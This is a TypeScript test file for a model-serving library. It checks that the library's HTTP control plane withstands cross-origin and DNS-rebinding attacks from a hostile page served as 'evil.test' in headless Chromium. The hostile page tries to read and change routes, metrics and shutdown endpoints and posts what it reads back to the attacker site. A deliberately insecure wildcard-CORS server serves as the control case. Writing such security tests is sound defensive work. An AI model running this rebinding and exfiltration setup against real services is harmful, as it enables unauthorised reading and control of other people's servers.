import { type ChildProcess, spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import type Koa from 'koa';
import * as serve from 'servelab';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { descriptorsOf } from '../support/processes.ts';
import { requireOrSkip } from '../support/require.ts';

const test = suite('pages that attack');

const FIXTURES = new URL('../../../test/fixtures/control/attacks/', import.meta.url);
const ATTACKS = readFileSync(new URL('attacks.js', FIXTURES), 'utf8');
const REBOUND = readFileSync(new URL('rebound.html', FIXTURES), 'utf8');
/** What only somebody who read the routes or the metrics can know. */
const CANARY = 'canary-5d1c7a';

const chromium = {
  available: spawnSync('chromium', ['--version'], { stdio: 'ignore' }).error === undefined,
  why: 'chromium is not installed',
};

/** What the pages could read, by attack, for one that is a stranger and for one whose name leads to the target by now. */
interface Report {
  readonly stranger: Readonly<Record<string, readonly string[]>>;
  readonly rebound: readonly string[];
}

/** The page that is visited: it attacks the target, lets the rebound page do so, and reports. */
const visited = (targetPort: number): string => `<!doctype html>
<title>a page of another site</title>
<body>
<script type="module">
  import { attack } from '/attacks.js';
  const stranger = await attack('http://127.0.0.1:${targetPort}');
  const rebound = await new Promise((resolve) => {
    onmessage = ({ data }) => resolve(data.read);
    setTimeout(() => resolve(['the rebound page never answered']), 10_000);
    const frame = document.createElement('iframe');
    frame.src = 'http://evil.test:${targetPort}/rebound';
    document.body.append(frame);
  });
  await fetch('/report', { method: 'POST', body: JSON.stringify({ stranger, rebound }) });
</script>`;

/** Lets a browser visit the attacker's page, and gives what it reports. */
async function attacked(targetPort: number): Promise<Report> {
  const { promise: reported, resolve } = Promise.withResolvers<Report>();
  const site = await listening(
    createServer(async (req, res) => {
      if (req.url === '/report') resolve(JSON.parse(await text(req)) as Report);
      const isScript = req.url === '/attacks.js';
      res.setHeader('content-type', isScript ? 'text/javascript' : 'text/html');
      res.end(isScript ? ATTACKS : visited(targetPort));
    }),
  );
  const profile = mkdtempSync(join(tmpdir(), 'servelab-chromium-'));
  const browser = visit(`http://evil.test:${portOf(site)}/`, profile);
  const exited = once(browser, 'exit');
  try {
    const gone = exited.then((): never => {
      throw new Error('the browser ended by itself');
    });
    return await Promise.race([reported, gone]);
  } finally {
    if (browser.pid !== undefined) process.kill(-browser.pid, 'SIGKILL');
    await exited;
    site.closeAllConnections();
    await new Promise((done) => site.close(done));
    rmSync(profile, { recursive: true, force: true, maxRetries: 20, retryDelay: 100 });
  }
}

function visit(url: string, profile: string): ChildProcess {
  const args = ['--headless=new', '--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage', '--no-first-run'];
  const rules = '--host-resolver-rules=MAP evil.test 127.0.0.1';
  return spawn('chromium', [...args, rules, `--user-data-dir=${profile}`, url], { stdio: 'ignore', detached: true });
}

async function listening(server: Server): Promise<Server> {
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return server;
}

const portOf = (server: Server): number => (server.address() as AddressInfo).port;

const readBy = ({ stranger, rebound }: Report): string[] => [
  ...Object.entries(stranger)
    .filter(([, texts]) => texts.some((said) => said.includes(CANARY)))
    .map(([attack]) => attack),
  ...(rebound.some((said) => said.includes(CANARY)) ? ['rebound'] : []),
];

/** What there is to be read, on every path of the control plane that HTTP has, and what there is to be changed. */
const describe = async (client: serve.Client): Promise<unknown> => {
  const { instance, backends, endpoints, replicas } = await client.status();
  const tags = replicas.map(({ tag, state, restarts }) => [tag, state, restarts]);
  return [
    instance,
    Object.keys(backends),
    Object.entries(endpoints).map(([name, { traffic }]) => [name, traffic]),
    tags,
  ];
};

requireOrSkip(test, 'change and read nothing of an instance, whichever way they try', chromium, async () => {
  const seen: string[] = [];
  const record: Koa.Middleware = async (ctx, next) => {
    seen.push(`${ctx.method} ${ctx.path} ${ctx.host.replace(/:\d+$/, '')}`);
    await next();
  };
  const client = await serve.start({ name: 'attacked', http: { port: 0, middlewares: [record] } });
  try {
    await client.createBackend(CANARY, () => 'hello');
    await client.createEndpoint(CANARY, { backend: CANARY, route: `/${CANARY}` });
    // Stands for the page as it was loaded before its name was made to lead here.
    const html = REBOUND;
    await client.createBackend('rebound', () => new Response(html, { headers: { 'content-type': 'text/html' } }));
    await client.createEndpoint('rebound', { backend: 'rebound', route: '/rebound' });
    const before = await describe(client);
    const port = Number(new URL(client.http?.url ?? '').port);
    const report = await attacked(port);
    assert.equal(readBy(report), [], JSON.stringify(report));
    assert.equal(await describe(client), before);
    // They did reach it: as strangers, and under a name of their own.
    assert.ok(Object.keys(report.stranger).length >= 18);
    for (const request of [
      'GET /-/routes 127.0.0.1',
      'POST /-/routes 127.0.0.1',
      'GET /-/metrics 127.0.0.1',
      'POST /-/metrics 127.0.0.1',
      'GET /shutdown 127.0.0.1',
      'GET /-/routes evil.test',
      'POST /-/routes evil.test',
      'DELETE /-/metrics evil.test',
    ]) {
      assert.ok(seen.includes(request), `${request} is not among ${[...new Set(seen)].join(', ')}`);
    }
    assert.ok(
      report.rebound.every((said) => /HOST_NOT_ALLOWED|METHOD_NOT_ALLOWED/.test(said)),
      report.rebound.join(),
    );
    const own = await fetch(`${client.http?.url}/-/routes`);
    assert.match(await own.text(), CANARY);
  } finally {
    await client.shutdown();
  }
});

requireOrSkip(test, 'would read and change a server that takes no care: the rig sees it', chromium, async () => {
  let changes = 0;
  const careless = await listening(
    createServer((req, res) => {
      if (req.method !== 'GET' && req.method !== 'OPTIONS') changes++;
      if (req.url?.startsWith('/shutdown')) changes++;
      res.setHeader('access-control-allow-origin', '*');
      res.setHeader('access-control-allow-headers', '*');
      res.setHeader('access-control-allow-methods', '*');
      res.setHeader('content-type', req.url === '/rebound' ? 'text/html' : 'text/plain');
      res.end(req.url === '/rebound' ? REBOUND : CANARY);
    }),
  );
  try {
    const report = await attacked(portOf(careless));
    const read = readBy(report);
    for (const attack of ['fetch across origins', 'JSON posted across origins', 'an old request', 'rebound']) {
      assert.ok(read.includes(attack), `${attack} read nothing: ${JSON.stringify(report)}`);
    }
    assert.ok(changes >= 20, `${changes} changes`);
  } finally {
    careless.closeAllConnections();
    await new Promise((done) => careless.close(done));
  }
});

/** Inodes of the sockets that listen on the network, by /proc/net/tcp and tcp6. */
function listeners(pid: number): string[] {
  const sockets = new Set(descriptorsOf(pid).flatMap((path) => /^socket:\[(\d+)\]$/.exec(path)?.[1] ?? []));
  return ['tcp', 'tcp6'].flatMap((table) =>
    readFileSync(`/proc/${pid}/net/${table}`, 'utf8')
      .split('\n')
      .slice(1)
      .map((line) => line.trim().split(/\s+/))
      .filter(([, , , state, , , , , , inode]) => state === LISTEN && sockets.has(inode ?? ''))
      .map(([, address = '']) => String(Number.parseInt(address.split(':')[1] ?? '', 16))),
  );
}

const LISTEN = '0A';

test('nothing but HTTP listens on the network, and without HTTP nothing does', async () => {
  const client = await serve.start({ name: 'quiet', host: 'process', http: null });
  await client.createBackend('apart', () => 1, { actorOptions: { isolation: 'process' } });
  const { instance, replicas } = await client.status();
  for (const pid of [instance.pid, ...replicas.map((replica) => replica.pid)]) assert.equal(listeners(pid), []);
  await client.shutdown();
  const loud = await serve.start({ name: 'loud', host: 'process', http: { port: 0 } });
  assert.equal(listeners((await loud.status()).instance.pid), [new URL(loud.http?.url ?? '').port]);
  await loud.shutdown();
});

test.run();
